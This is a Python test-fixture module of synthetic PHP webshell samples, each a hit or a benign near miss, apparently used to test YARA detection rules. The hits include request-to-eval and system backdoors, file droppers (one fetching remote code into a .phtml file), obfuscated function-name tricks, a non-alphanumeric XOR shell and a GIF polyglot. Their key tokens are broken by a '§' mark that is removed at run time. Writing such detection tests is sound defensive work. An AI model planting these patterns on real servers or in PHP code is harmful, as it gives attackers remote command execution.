"""Synthetic samples of the PHP webshell rules: generic, obfuscation and techniques (hits and near
misses); the PHP samples of the tool families are in ``samples_php_families``.

No working webshell is stored here: every sample is written with "§" inside its telling tokens
and the marks are removed only when the bytes are built at run time (see ``samples``)."""

from __future__ import annotations

from secops.detection.yara.sample_base import BLOB, Sample

PHP_SAMPLES: tuple[Sample, ...] = (
    # --- generic PHP ---------------------------------------------------------------------------
    Sample(
        "php_webshell_eval_request",
        True,
        "helper.php",
        "<?php\n// maintenance helper\nif (isset($_PO§ST['k'])) {\n    @ev§al(stripslashes($_PO§ST['k']));\n}\n",
    ),
    Sample(
        "php_webshell_eval_request",
        True,
        "hdr.php",
        "<?php as§sert($_SER§VER['HTTP_X_CODE']); ?>\n",
    ),
    Sample(
        "php_webshell_eval_request",
        True,
        "cmd.php",
        "<?php echo '<pre>'; sys§tem($_GE§T['c']); echo '</pre>'; ?>\n",
    ),
    Sample(
        "php_webshell_eval_request",
        False,
        "calc.php",
        "<?php\nrequire 'calc.php';\n$result = $calc->eval($_POST['expr']);\necho htmlspecialchars($_POST['name']);\n",
    ),
    Sample("php_webshell_request_function_call", True, "f.php", "<?php @$_GE§T['f']($_PO§ST['c']); ?>\n"),
    Sample(
        "php_webshell_request_function_call",
        False,
        "route.php",
        "<?php\n$handler = $handlers[$_GET['action']] ?? null;\nif ($handler) { $handler($request); }\n",
    ),
    Sample(
        "php_webshell_preg_replace_e",
        True,
        "pr.php",
        "<?php echo preg_rep§lace(\"/.*/e\", $_PO§ST['c'], 'x'); ?>\n",
    ),
    Sample(
        "php_webshell_preg_replace_e",
        False,
        "slug.php",
        "<?php\n$slug = preg_replace('/[^a-z0-9]+/i', '-', strtolower($_POST['title']));\necho $slug;\n",
    ),
    Sample(
        "php_webshell_create_function_request",
        True,
        "cf.php",
        "<?php $f = create_func§tion('', $_RE§QUEST['code']); $f(); ?>\n",
    ),
    Sample(
        "php_webshell_create_function_request",
        False,
        "sort.php",
        "<?php\n$cmp = create_function('$a,$b', 'return $a - $b;');\nusort($items, $cmp);\n",
    ),
    Sample(
        "php_webshell_callback_request",
        True,
        "cb.php",
        "<?php call_user_f§unc('as§sert', $_PO§ST['x']); ?>\n",
    ),
    Sample(
        "php_webshell_callback_request",
        True,
        "map.php",
        "<?php array_m§ap($_GE§T['f'], array($_PO§ST['x'])); ?>\n",
    ),
    Sample(
        "php_webshell_callback_request",
        False,
        "tags.php",
        "<?php\n$clean = array_map('trim', $_POST['tags']);\nusort($rows, 'cmp_rows');\n",
    ),
    Sample(
        "php_webshell_file_dropper",
        True,
        "w.php",
        "<?php file_put_con§tents($_PO§ST['n'], base64_decode($_PO§ST['d'])); ?>\n",
    ),
    Sample(
        "php_webshell_file_dropper",
        True,
        "up.php",
        "<?php\nmove_uploaded_f§ile($_FILES['f']['tmp_name'], 'uploads/' . $_FI§LES['f']['name']);\necho 'ok';\n",
    ),
    Sample(
        "php_webshell_file_dropper",
        False,
        "avatar.php",
        "<?php\n$name = bin2hex(random_bytes(8)) . '.jpg';\n"
        "move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name);\n",
    ),
    Sample(
        "php_webshell_known_kits",
        True,
        "wso.php",
        '<?php\n$auth_p§ass = "63a9f0ea7bb98050796b649e85481845";\n$color = "#df5";\n'
        "$default_ac§tion = 'Files§Man';\nfunction run($c) { return shell_e§xec($c); }\n",
    ),
    Sample(
        "php_webshell_known_kits",
        False,
        "blocklist.php",
        "<?php\n// names a malware scanner looks for: FilesMan, c99shell, r57shell\n"
        "$patterns = ['FilesMan', 'c99shell', 'r57shell'];\n",
    ),
    # --- PHP obfuscation -----------------------------------------------------------------------
    Sample(
        "php_obfuscated_eval_decoder",
        True,
        "o1.php",
        "<?php @ev§al(base64_de§code('ZWNobyAnaGVsbG8nOw==')); ?>\n",
    ),
    Sample(
        "php_obfuscated_eval_decoder",
        True,
        "o1x.php",
        '<?php @ev§al("\\x65\\x63\\x68\\x6f\\x20\\x27\\x68\\x69\\x27\\x3b"); ?>\n',
    ),
    Sample(
        "php_obfuscated_eval_decoder",
        False,
        "token.php",
        "<?php\n$json = base64_decode($token);\n$data = json_decode($json, true);\n",
    ),
    Sample(
        "php_obfuscated_decoder_chain",
        True,
        "o2.php",
        f"<?php\n$p = gzinf§late(base64_de§code('{BLOB}'));\nev§al($p);\n",
    ),
    Sample(
        "php_obfuscated_decoder_chain",
        False,
        "font.php",
        f"<?php\n$font = gzuncompress(base64_decode('{BLOB}'));\nfile_put_contents($cache, $font);\n",
    ),
    Sample("php_obfuscated_function_name", True, "o3.php", "<?php $f = 'as'§.'sert'; $f($_POST['x']); ?>\n"),
    Sample(
        "php_obfuscated_function_name",
        True,
        "o4.php",
        "<?php $f = str_rot13('nff§reg'); $g = strrev('tre§ssa');§ $f($_POST['x']); ?>\n",
    ),
    Sample(
        "php_obfuscated_function_name",
        True,
        "o5.php",
        "<?php $f = chr(97)§.chr(115).chr(115).chr(101).chr(114).chr(116);§ $f($_POST['x']); ?>\n",
    ),
    Sample(
        "php_obfuscated_function_name",
        True,
        "o6.php",
        "<?php $f = \"\\x61\\x73§\\x73\\x65\\x72\\x74\"; $f($_POST['x']); ?>\n",
    ),
    Sample(
        "php_obfuscated_function_name",
        False,
        "labels.php",
        "<?php\n$label = 'Assert' . 'ions';\n$encoded = base64_encode('system');\n$r = strrev('hello');\n",
    ),
    # --- PHP techniques (php_techniques.yar) ----------------------------------------------------
    Sample(
        "php_small_request_to_sink",
        True,
        "run.php",
        "<?php\n$p = $_CO§OKIE['k'];\nfunction run($x) { return sys§tem($x); }\nrun($p);\n",
    ),
    Sample(
        "php_small_request_to_sink",
        True,
        "page.php",
        "<?php\nsession_start();\n$_SESSION['f'] = $_PO§ST['f'];\n@incl§ude $_SESSION['f'];\n",
    ),
    Sample(
        "php_small_request_to_sink",
        False,
        "hits.php",
        "<?php\n$id = (int) $_GET['id'];\n$pdo->exec('UPDATE news SET hits = hits + 1 WHERE id = ' . $id);\n"
        "include 'footer.php';\n",
    ),
    Sample(
        "php_small_request_to_sink",
        False,
        "router.php",
        "<?php\n$page = $_GET['p'] ?? 'home';\n$file = __DIR__ . '/pages/' . basename($page) . '.php';\n"
        "if (is_file($file)) {\n    include $file;\n}\n",
    ),
    Sample(
        "php_small_request_callback",
        True,
        "sort.php",
        "<?php\n$a = array($_RE§QUEST['k'], '1');\nus§ort($a, 'as' . 'se§rt');\n",
    ),
    Sample(
        "php_small_request_callback",
        False,
        "tags.php",
        "<?php\n$tags = array_map('trim', explode(',', $_POST['tags'] ?? ''));\nusort($tags, 'strcmp');\n",
    ),
    Sample(
        "php_small_name_synthesis_call",
        True,
        "n.php",
        "<?php\n$f = 'sy' . 'st' . 'em';\n$f($_GE§T['c']);\n",
    ),
    Sample(
        "php_small_name_synthesis_call",
        False,
        "fmt.php",
        "<?php\n$cb = $formatters[$_GET['as'] ?? ''] ?? 'strval';\necho $cb($value);\n",
    ),
    Sample(
        "php_request_to_sink_nearby",
        True,
        "hdr2.php",
        "<?php\n$cmd = getenv('HTTP_X_§CMD');\necho sh§ell_exec($cmd);\n",
    ),
    Sample(
        "php_request_to_sink_nearby",
        False,
        "count.php",
        "<?php\n$n = (int) ($_GET['n'] ?? 0);\nassert($n >= 0);\necho str_repeat('*', $n);\n",
    ),
    Sample(
        "php_callback_dangerous_name",
        True,
        "ob.php",
        "<?php\nob_st§art('ass§ert');\necho $payload;\nob_end_flush();\n",
    ),
    Sample(
        "php_callback_dangerous_name",
        True,
        "sorter.php",
        "<?php\n$a = array($payload, '1');\nuas§ort($a, $_GE§T['f']);\n",
    ),
    Sample(
        "php_small_name_synthesis_call",
        True,
        "v.php",
        "<?php\n@extract($_REQ§UEST);\n$f = $_GE§T['f'];\n@$f($k);\n",
    ),
    Sample(
        "php_callback_dangerous_name",
        False,
        "gz.php",
        "<?php\nob_start('ob_gzhandler');\necho 'Hello';\nob_end_flush();\n",
    ),
    Sample(
        "php_encoded_payload_eval",
        True,
        "enc.php",
        f"<?php\n$c = base64_de§code('{BLOB}');\n@ev§al($c);\n",
    ),
    Sample(
        "php_encoded_payload_eval",
        False,
        "logo.php",
        f"<?php\n$img = base64_decode('{BLOB}');\nheader('Content-Type: image/png');\necho $img;\n",
    ),
    Sample(
        "php_image_polyglot",
        True,
        "avatar.gif.php",
        "GIF89a\x01\x00\x01\x00\n<?php @ev§al($_PO§ST['x']); ?>\n",
    ),
    Sample(
        "php_image_polyglot",
        False,
        "photo.php",
        "GIF89a\x01\x00\x01\x00<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta/>\n",
    ),
    Sample(
        "php_small_dropper",
        True,
        "save.php",
        "<?php\n$n = $_RE§QUEST['n'];\n$h = fo§pen($n, 'w');\nfwrite($h, base64_decode($_POST['d']));\nfclose($h);\n",
    ),
    Sample(
        "php_small_dropper",
        True,
        "get.php",
        "<?php\nfile_put_con§tents(__DIR__ . '/images/thumb.ph§tml', file_get_contents('http://example.invalid/s.txt'));\n",
    ),
    Sample(
        "php_small_dropper",
        False,
        "visits.php",
        "<?php\n$line = date('c') . ' ' . ($_GET['page'] ?? '') . \"\\n\";\n"
        "file_put_contents(__DIR__ . '/visits.log', $line, FILE_APPEND);\n",
    ),
    Sample(
        "php_nonalnum_shell",
        True,
        "x.php",
        "<?php\n$_=('!'^'@').(','^'_').('-'^'^').('>'^'[').('['^')').(']'^')');\n"
        "$__='_'.('+'^'{').('`'^'/').('.'^'}').('/'^'{');\n$___=$$§__;\n@$_($§___['_']);\n",
    ),
    Sample(
        "php_nonalnum_shell",
        False,
        "under.php",
        "<?php\n$_ = $_GET;\n$__ = 'strval';\necho htmlspecialchars($_§_($_['q'] ?? ''));\n",
    ),
    Sample(
        "php_request_sink_shell_traits",
        True,
        "fm.php",
        "<?php\n@error_reporting(0);\n@set_time_limit(0);\n"
        "echo php_uname() . getcwd() . ini_get('disable_functions');\n?>\n"
        + "<table>"
        + "".join(f"<tr><td>row {i}</td><td>{'x' * 40}</td></tr>\n" for i in range(120))
        + "</table>\n"
        "<?php\nclass Box { public $c; }\n$b = new Box();\n$b->c = $_PO§ST['k'];\n"
        "function run($o) { return shell_e§xec($o->c . ' 2>&1'); }\necho run($b);\n",
    ),
    Sample(
        "php_request_sink_shell_traits",
        False,
        "probe.php",
        "<?php\n@set_time_limit(0);\n$tab = $_GET['tab'] ?? 'os';\n"
        "echo php_uname() . ' ' . getcwd() . ' ' . ini_get('disable_functions');\n"
        "echo '<pre>' . htmlspecialchars((string) shell_ex§ec('uptime 2>&1')) . '</pre>';\n",
    ),
    Sample(
        "php_name_synthesis_call_medium",
        True,
        "theme.php",
        "<?php\n"
        + "".join(
            f"function block_{i}($t) {{ return '<div class=\"b{i}\">' . htmlspecialchars($t) . '</div>'; }}\n"
            for i in range(60)
        )
        + "$f = '!#%&()' §^ 'RZVRMD';\n@$f($_PO§ST['x']);\n",
    ),
    Sample(
        "php_name_synthesis_call_medium",
        False,
        "mask.php",
        "<?php\n"
        + "".join(
            f"function block_{i}($t) {{ return '<div class=\"b{i}\">' . htmlspecialchars($t) . '</div>'; }}\n"
            for i in range(60)
        )
        + "$mask = 'abc' ^ 'xyz';\n$render = $renderers[$_GET['r'] ?? ''] ?? 'strval';\necho $render($mask);\n",
    ),
)
